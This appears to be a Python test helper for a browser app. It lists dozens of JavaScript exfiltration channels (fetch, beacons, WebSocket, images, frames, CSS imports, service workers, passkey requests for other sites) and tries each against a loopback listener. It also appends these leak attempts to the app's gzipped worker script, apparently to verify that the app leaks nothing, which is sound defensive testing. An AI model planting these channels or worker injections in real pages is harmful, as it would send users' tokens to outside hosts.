"""An adversary that tries every channel out of a page or a worker, and the listener that it tries to reach."""

from __future__ import annotations

import contextlib
import gzip
import json
import selectors
import socket
import threading
from pathlib import Path
from typing import Final
from urllib.parse import quote

_SABOTEUR: Final = Path(__file__).parent / "browser" / "saboteur.js"
# Each is the body of a function of `url` (http), `socket` (ws) and `port`; what it throws or rejects with is no matter.
ANYWHERE: Final = {
    "fetch": "return fetch(url, { mode: 'no-cors' });",
    "fetch with a body": "return fetch(url, { mode: 'no-cors', method: 'POST', body: 'token' });",
    "fetch that is kept alive": "return fetch(url, { mode: 'no-cors', keepalive: true });",
    "XMLHttpRequest": "const request = new XMLHttpRequest(); request.open('POST', url); request.send('token');",
    "WebSocket": "new WebSocket(socket);",
    "EventSource": "new EventSource(url);",
    "WebTransport": "return new WebTransport(url.replace('http:', 'https:')).ready;",
    "import of a module": "return import(url);",
    "worker from an address": "new Worker(url);",
    "shared worker": "new SharedWorker(url);",
    "worker inside a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])));",
}
IN_THE_PAGE: Final = {
    "beacon": "navigator.sendBeacon(url, 'token');",
    "image": "new Image().src = url;",
    "image of many sizes": "new Image().srcset = `${url} 2x`;",
    "audio": "new Audio(url).play();",
    "video": "add('video', { src: url }).load();",
    "poster of a video": "add('video', { poster: url });",
    "object": "add('object', { data: url });",
    "embed": "add('embed', { src: url });",
    "frame": "add('iframe', { src: url });",
    "frame with a document": "add('iframe', { srcdoc: `<img src=\"${url}\">` });",
    "script": "add('script', { src: url });",
    "module script": "add('script', { src: url, type: 'module' });",
    "style sheet": "add('link', { rel: 'stylesheet', href: url });",
    "import in a style": "add('style', { textContent: `@import '${url}';` });",
    "background of a style": "document.body.style.backgroundImage = `url(${url})`;",
    "cursor": "document.body.style.cursor = `url(${url}), auto`;",
    "font": "return new FontFace('leak', `url(${url})`).load();",
    "icon": "add('link', { rel: 'icon', href: url });",
    "manifest": "add('link', { rel: 'manifest', href: url });",
    "prefetch": "add('link', { rel: 'prefetch', href: url });",
    "preload": "add('link', { rel: 'preload', href: url, as: 'fetch' });",
    "module preload": "add('link', { rel: 'modulepreload', href: url });",
    "prerender": 'add(\'script\', { type: \'speculationrules\', textContent: `{"prefetch":[{"urls":["${url}"]}]}` });',
    "SVG image": "document.body.append(svg('image', url));",
    "SVG use": "document.body.append(svg('use', `${url}#a`));",
    "form": "add('iframe', { name: 'sink' }); add('form', { action: url, method: 'post', target: 'sink' }).submit();",
    "service worker": "return navigator.serviceWorker.register(url);",
    "ping of a link": "add('a', { href: '#', ping: url }).click();",
    "input image": "add('input', { type: 'image', src: url });",
    "attribution": "add('img', { attributionSrc: url });",
    "report": "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}` });",
}
# Each is the body of a function of `site`; the browser asks that site whether its passkeys are also those of the page.
PASSKEYS: Final = {
    "passkey": "return navigator.credentials.get({ publicKey: { challenge, rpId: site } });",
    "offered": "return navigator.credentials.get({ mediation: 'conditional', publicKey: { challenge, rpId: site } });",
    "new": """const rp = { id: site, name: 'a' };
        return navigator.credentials.create({ publicKey: { challenge, rp, user, pubKeyCredParams } });""",
}
# What a page tells the browser of passkeys; a browser asks the site all the same, and no Permissions-Policy is for it.
SIGNALS: Final = {
    "unknown": "return PublicKeyCredential.signalUnknownCredential({ rpId: site, credentialId: 'AAAA' });",
    "accepted": """return PublicKeyCredential.signalAllAcceptedCredentials({
        rpId: site, userId: 'AAAA', allAcceptedCredentialIds: [] });""",
    "renamed": """return PublicKeyCredential.signalCurrentUserDetails({
        rpId: site, userId: 'AAAA', name: 'a', displayName: 'b' });""",
}
# Ways to other pages of the same origin, which are not requests: each is the body of a function in a worker.
WITHIN_THE_ORIGIN: Final = {
    "BroadcastChannel": "new BroadcastChannel('leak').postMessage('BroadcastChannel');",
    "BroadcastChannel of a worker inside": """const script = `new BroadcastChannel('leak').postMessage(
        'BroadcastChannel of a worker inside')`;
        self.inside = new Worker(URL.createObjectURL(new Blob([script])));""",
    "IndexedDB": "const asked = indexedDB.open('leak'); await new Promise((done) => (asked.onsuccess = done));",
    "file system": "await (await navigator.storage.getDirectory()).getFileHandle('leak', { create: true });",
    "cache": "await caches.open('leak');",
    "lock": """await new Promise((held) => navigator.locks.request('leak', () => {
        held();
        return new Promise(() => {});
    }));""",
    "storage bucket": "await navigator.storageBuckets.open('leak');",
    "temporary file system": """await new Promise((done, failed) => webkitRequestFileSystem(0, 9, ({ root }) =>
        root.getFile('leak', { create: true }, done, failed), failed));""",
}
# Makes the page hear what comes by BroadcastChannel, and then say what reached it in any way.
ORIGIN_LISTENS: Final = """() => {
  globalThis.broadcast = new Set();
  new BroadcastChannel('leak').onmessage = ({ data }) => broadcast.add(data);
}"""
ORIGIN_HEARD: Final = """async () => {
  const found = {
    "IndexedDB": async () => (await indexedDB.databases()).some(({ name }) => name === 'leak'),
    "file system": async () => (await navigator.storage.getDirectory()).getFileHandle('leak'),
    "cache": () => caches.has('leak'),
    "lock": async () => (await navigator.locks.query()).held.some(({ name }) => name === 'leak'),
    "storage bucket": async () => (await navigator.storageBuckets.keys()).includes('leak'),
    "temporary file system": () => new Promise((done, failed) => webkitRequestFileSystem(0, 9, ({ root }) =>
        root.getFile('leak', {}, done, failed), failed)),
  };
  const asked = Object.entries(found).map(async ([name, ask]) => {
    try { return (await ask()) && name; } catch { return false; }
  });
  return [...broadcast, ...(await Promise.all(asked)).filter(Boolean)];
}"""
TOOLS: Final = """
const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const svg = (name, href) => {
  const element = document.createElementNS('http://www.w3.org/2000/svg', name);
  element.setAttribute('href', href);
  return document.createElementNS('http://www.w3.org/2000/svg', 'svg').appendChild(element).parentNode;
};
"""
# Everything that a page can do with a service worker, given where the listener is; nothing of it may reach anybody.
AT_THE_WORKER: Final = """async ({ http }) => {
  const { serviceWorker } = navigator;
  const registration = await serviceWorker.getRegistration();
  const texts = [http, "fetch", "activated", "ACTIVATE", "skipWaiting", "update", "install", "claim", ""];
  const kinds = ["activate", "fetch", "cache", "add", "CACHE_URLS", "SKIP_WAITING", "navigate"];
  const objects = kinds.flatMap((type) => [
    { type, url: http, urls: [http], payload: [http], href: http }, { action: type, request: { url: http } },
    { activate: http }, [type, http], new Map([[type, http]])]);
  for (const worker of [serviceWorker.controller, registration.active]) {
    for (const data of [...texts, ...objects, null, 1, true, new Blob([http])]) worker.postMessage(data);
    worker.postMessage(http, [new MessageChannel().port2]);
    new BroadcastChannel("jwt-decoder").postMessage(http);
  }
  const tries = [
    () => serviceWorker.register(http + "sw.js"), () => serviceWorker.register("./sw.js?token"),
    () => serviceWorker.register(URL.createObjectURL(new Blob([`fetch("${http}")`]))),
    () => fetch(http), () => fetch("./index.html?token"), () => fetch("./unheard-of?token"),
    () => caches.open("theirs").then((cache) => cache.add(http)), () => new Request(http) && caches.match(http),
    () => registration.backgroundFetch.fetch("token", [http]), () => registration.sync.register(http),
    () => registration.periodicSync.register(http, { minInterval: 1 }),
    () => registration.pushManager.subscribe({ userVisibleOnly: true }),
    () => registration.showNotification("token", { icon: http, image: http, badge: http }),
    () => registration.navigationPreload.setHeaderValue("token"), () => registration.update(),
  ];
  const within = new Promise((resolve) => setTimeout(resolve, 1500));
  const done = tries.map((one) => Promise.resolve().then(one).catch(() => undefined));
  await Promise.race([Promise.all(done), within]);
  await within;
}"""
# What no browser does to another origin, or not without a window, even where nothing forbids it.
_NEVER: Final = {
    "SVG use",
    "WebTransport",
    "attribution",
    "icon",
    "manifest",
    "report",
    "service worker",
    "shared worker",
    "worker from an address",
}
NOT_TRIED: Final = {
    "chromium": _NEVER,
    "firefox": {*_NEVER, "ping of a link", "prerender"},
    "webkit": {*_NEVER, "prefetch", "prerender", "video"},
}
# By browser, of the ways within an origin, those that it does not have.
NOT_WITHIN: Final = {"chromium": set[str](), "firefox": {"storage bucket", "temporary file system"}}
PATIENCE: Final = 1_500
_ELSEWHERE: Final = "leak.test"


def adversary(channels: dict[str, str], tools: str = "") -> str:
    """Return the source of a function of ``http`` and ``ws`` that tries every channel and then settles."""
    attempts = ",".join(f'["{name}", (url, socket) => {{ {body} }}]' for name, body in channels.items())
    return f"""async ({{ http, ws }}) => {{
        {tools}
        const patience = () => new Promise((resolve) => setTimeout(resolve, {PATIENCE}));
        const tries = [{attempts}].map(async ([name, attempt]) => {{
            const path = encodeURIComponent(name);
            try {{ await Promise.race([attempt(http + path, ws + path), patience()]); }} catch {{ /* refused */ }}
        }});
        await Promise.all([...tries, patience()]);
    }}"""


def origin_adversary() -> str:
    """Return the source of a promise, in a worker, that settles when every way to the origin was tried."""
    tries = ",".join(f"async () => {{ {body} }}" for body in WITHIN_THE_ORIGIN.values())
    patience = f"new Promise((resolve) => setTimeout(resolve, {PATIENCE}))"
    return f"""Promise.all([{patience}, ...[{tries}].map((one) =>
        Promise.race([one().catch(() => undefined), {patience}]))])"""


def prying_worker(script: bytes) -> bytes:
    """Return a worker, gzipped as it is given, that tries every way to its origin before it says that it is ready."""
    pry = f"""
        const tried = {origin_adversary()};
        const post = self.postMessage.bind(self);
        self.postMessage = async (message) => {{
            if (message.kind === "ready") await tried;
            post(message);
        }};
    """
    return gzip.compress(gzip.decompress(script) + pry.encode())


def credentials_adversary() -> str:
    """Return the source of a function that asks for passkeys of other sites, one by one as browsers want it."""
    channels = {**PASSKEYS, **SIGNALS}
    attempts = ",".join(f'["{name}.{_ELSEWHERE}", (site) => {{ {body} }}]' for name, body in channels.items())
    return f"""async () => {{
        const challenge = new Uint8Array(8);
        const user = {{ id: challenge, name: "a", displayName: "b" }};
        const pubKeyCredParams = [{{ type: "public-key", alg: -7 }}];
        for (const [site, attempt] of [{attempts}]) {{
            const patience = new Promise((resolve) => setTimeout(resolve, {PATIENCE}));
            try {{ await Promise.race([attempt(site), patience]); }} catch {{ /* refused */ }}
        }}
    }}"""


class Listener:
    """Keeps the first line of whatever connects to a port of this machine; ``reached`` is set by the first."""

    def __init__(self) -> None:
        """Listen."""
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.socket.getsockname()[1])
        self.heard: list[str] = []
        self.reached = threading.Event()
        self._open = True
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Stop."""
        self._open = False
        self._thread.join()
        self.socket.close()

    def _listen(self) -> None:
        with selectors.DefaultSelector() as ready:
            ready.register(self.socket, selectors.EVENT_READ)
            while self._open:
                if ready.select(timeout=0.1):
                    threading.Thread(target=self._take, args=[self.socket.accept()[0]], daemon=True).start()

    def _take(self, connection: socket.socket) -> None:
        connection.settimeout(0.5)
        with connection, contextlib.suppress(OSError):
            first = connection.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
            self.heard.append(first or "connected")
            self.reached.set()
            connection.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


def addresses(listener: Listener) -> dict[str, str]:
    """Return where the listener is, by the names that the adversary knows."""
    return {"http": f"http://127.0.0.1:{listener.port}/", "ws": f"ws://127.0.0.1:{listener.port}/"}


def channels_heard(listener: Listener) -> set[str]:
    """Return the names of the channels that reached the listener."""
    names = {*ANYWHERE, *IN_THE_PAGE}
    return {name for name in names if any(f"/{quote(name)} " in line for line in listener.heard)}


def sites_asked(listener: Listener) -> set[str]:
    """Return the names of the channels to other sites that reached the listener, which is the proxy of the browser."""
    return {name for name in (*PASSKEYS, *SIGNALS) if any(f" {name}.{_ELSEWHERE}:" in line for line in listener.heard)}


def proxy(listener: Listener) -> dict[str, object]:
    """Return the options of a context in which whatever goes to another machine goes to the listener."""
    return {"proxy": {"server": f"http://127.0.0.1:{listener.port}", "bypass": "localhost"}}


def leaking_worker(listener: Listener) -> bytes:
    """Return a worker, gzipped as the site has it, that tries every channel when it is asked about ``leak``."""
    nothing = json.dumps(json.dumps({"schema": 1, "now": 0, "tokens": [], "keys": [], "notes": []}))
    leak = f"""
        const places = {json.dumps(addresses(listener))};
        const answer = (id) => postMessage({{ kind: "result", id, result: {nothing} }});
        ways.leak = (id) => ({adversary(ANYWHERE)})(places).then(() => answer(id));
    """
    return gzip.compress(_SABOTEUR.read_bytes() + leak.encode())
